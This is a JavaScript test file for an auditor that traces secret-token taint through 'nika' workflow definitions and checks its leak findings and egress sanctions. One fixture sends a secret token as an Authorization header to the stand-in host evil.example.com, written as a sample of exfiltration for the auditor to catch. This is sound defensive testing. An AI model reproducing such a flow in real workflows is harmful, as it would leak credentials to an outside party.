// Secrets (reference §1.5): shapes, and taint from secrets.* through with: bindings into
// exec/invoke/infer/agent and outputs, with egress sanctions.
import test from 'node:test';
import assert from 'node:assert/strict';
import { applyFix, audit, findings } from './audit-helpers.js';

const HEAD = `nika: s
secrets:
  tok: { source: env, key: API_TOKEN }
permits:
  exec: [curl, echo]
  net: { http: ["api.example.com", "evil.example.com"] }
  tools: ["nika:fetch", "nika:write", "nika:hash", "nika:log"]
  fs: { write: ["out/**"] }
tasks:
`;

test('a secret reaching exec through a with: binding is SEC-006 on the island, with the taint path', () => {
  const text = HEAD + `  call:
    with: { auth: "Bearer \${{ secrets.tok }}" }
    exec: { command: [curl, -H, "\${{ with.auth }}", "https://api.example.com"] }
`;
  const [d] = findings(text, 'NIKA-SEC-006');
  assert.equal(text.slice(d.span.start, d.span.end), '${{ with.auth }}');
  assert.match(d.message, /secrets\.tok → with\.auth → exec/);
  assert.match(d.message, /egress: \[\{ to: "exec" \}\]/);
  // The sanction fix (not preferred: it widens the flow) adds the egress entry.
  assert.equal(d.data?.fixes?.[0].preferred, false);
  const fixed = applyFix(text, d);
  assert.ok(fixed.includes('tok: { source: env, key: API_TOKEN, egress: [{ to: "exec" }] }'), fixed);
  assert.deepEqual(audit(fixed), []);
});

test('bindings chain and concatenation launders nothing; the exec output carries the taint to outputs (SEC-007)', () => {
  const text = HEAD + `  call:
    with:
      raw: "\${{ secrets.tok }}"
      hdr: "x-\${{ with.raw }}-y"
    exec: { command: [echo, "\${{ with.hdr }}"] }
outputs:
  leaked: \${{ tasks.call.output }}
  direct: "\${{ secrets.tok }}"
`;
  assert.deepEqual(audit(text), ['NIKA-SEC-006@${{ with.hdr }}', 'NIKA-SEC-007@${{ tasks.call.output }}', 'NIKA-SEC-007@${{ secrets.tok }}']);
  assert.match(findings(text, 'NIKA-SEC-007')[0].message, /secrets\.tok → with\.raw → with\.hdr → tasks\.call\.output → outputs\.leaked/);
  const sanctioned = text.replace('key: API_TOKEN }', 'key: API_TOKEN, egress: [{ to: exec }, { to: outputs }] }');
  assert.deepEqual(audit(sanctioned), []);
});

test('infer/agent prompts are sinks, but their outputs are not tainted by a secret in the prompt', () => {
  const text = HEAD + `  ask:
    infer: { prompt: "Use key \${{ secrets.tok }}" }
  loop:
    agent: { prompt: "\${{ secrets.tok }}" }
outputs:
  answer: \${{ tasks.ask.output }}
`;
  assert.deepEqual(audit(text), ['NIKA-SEC-006@${{ secrets.tok }}', 'NIKA-SEC-006@${{ secrets.tok }}']);
  const ok = text.replace('key: API_TOKEN }', 'key: API_TOKEN, egress: [{ to: infer }, { to: agent }] }');
  assert.deepEqual(audit(ok), []);
});

test('invoke sinks are the tool id; host: pins a literal fetch host; a templated host never matches', () => {
  const base = HEAD.replace('key: API_TOKEN }', 'key: API_TOKEN, egress: [{ to: "nika:fetch", host: api.example.com }] }') + `  good:
    invoke:
      tool: nika:fetch
      args: { url: "https://api.example.com/v1", headers: { Authorization: "Bearer \${{ secrets.tok }}" } }
  bad:
    invoke:
      tool: nika:fetch
      args: { url: "https://evil.example.com/x", headers: { Authorization: "\${{ secrets.tok }}" } }
  laundered:
    invoke:
      tool: nika:write
      args: { path: out/t.txt, content: "\${{ secrets.tok }}" }
`;
  const got = findings(base, 'NIKA-SEC-006');
  assert.deepEqual(got.map((d) => d.message.match(/in task '(\w+)'/)![1]), ['bad', 'laundered']);
  assert.match(got[1].message, /reaches nika:write/);
});

test('host_from_self sanctions a secret that is the whole URL, not one concatenated into it', () => {
  const text = `nika: n
secrets:
  hook: { source: env, key: HOOK, egress: [{ to: "nika:notify", host_from_self: "target" }] }
permits:
  net: { http: ["*"] }
  tools: ["nika:notify"]
tasks:
  a:
    invoke: { tool: nika:notify, args: { channel: webhook, target: "\${{ secrets.hook }}", message: hi } }
  b:
    invoke: { tool: nika:notify, args: { channel: webhook, target: "\${{ secrets.hook }}/extra", message: hi } }
`;
  assert.deepEqual(findings(text, 'NIKA-SEC-006').map((d) => d.message.match(/in task '(\w+)'/)![1]), ['b']);
});

test('nika:hash key: must be exactly ${{ secrets.X }} (and then it is not a leak)', () => {
  const text = HEAD + `  sign:
    invoke: { tool: nika:hash, args: { content: x, op: sign, key: "\${{ secrets.tok }}" } }
  literal:
    invoke: { tool: nika:hash, args: { content: x, op: sign, key: "sk-123" } }
  mixed:
    invoke: { tool: nika:hash, args: { content: x, op: sign, key: "k-\${{ secrets.tok }}" } }
`;
  const b = findings(text, 'NIKA-BUILTIN-001').filter((d) => /key: must be a secret/.test(d.message));
  assert.deepEqual(b.map((d) => text.slice(d.span.start, d.span.end)), ['sk-123', 'k-${{ secrets.tok }}']);
  // Only the concatenated key leaks (the exact reference is what the argument is for).
  assert.deepEqual(findings(text, 'NIKA-SEC-006').map((d) => d.message.match(/in task '(\w+)'/)![1]), ['mixed']);
});

test('secret shapes: vault warns (withdrawn until it runs), egress to: must name a sink', () => {
  const text = `nika: v
secrets:
  a: { source: vault, key: prod/a }
  b: { source: env, key: B, egress: [{ to: "nika.sh" }, { to: exec }, { to: "mcp:srv/tool" }, { to: "nika:nope" }] }
tasks:
  t:
    infer: { prompt: hi }
`;
  const ds = findings(text, 'NIKA-PARSE-014');
  assert.deepEqual(ds.map((d) => `${d.severity}@${text.slice(d.span.start, d.span.end)}`), ['warning@vault', 'error@nika.sh', 'error@nika:nope']);
  assert.match(ds[1].message, /host goes in host:/);
});

test('no secrets declared, nothing to trace; a secret only a when: reads reaches no sink', () => {
  assert.deepEqual(audit('nika: x\npermits: {}\ntasks:\n  a:\n    infer: { prompt: hi }\n'), []);
  const text = HEAD + `  gate:
    with: { t: "\${{ secrets.tok }}" }
    when: \${{ with.t == 'x' }}
    exec: { command: [echo, hi] }
`;
  assert.deepEqual(audit(text), []);
});

test('a group fold carries its members\' tainted outputs; on_error.recover taints the recovering task\'s output', () => {
  const text = HEAD + `  a:
    group: g
    exec: { command: [echo, "\${{ secrets.tok }}"] }
  b:
    group: g
    infer: { prompt: hi }
    on_error: { recover: "\${{ tasks.a.output }}" }
  c:
    with: { all: "\${{ group.g }}" }
    invoke: { tool: nika:log, args: { message: "\${{ with.all }}" } }
outputs:
  b: \${{ tasks.b.output }}
`;
  const sec = findings(text, /^NIKA-SEC-00[67]$/).map((d) => `${d.code} ${d.message.match(/\(([^)]*)\)/)![1]}`);
  assert.deepEqual(sec, [
    'NIKA-SEC-006 secrets.tok → exec',
    'NIKA-SEC-006 secrets.tok → tasks.a.output → group.g → with.all → nika:log',
    'NIKA-SEC-007 secrets.tok → tasks.a.output → tasks.b.output → outputs.b',
  ]);
});
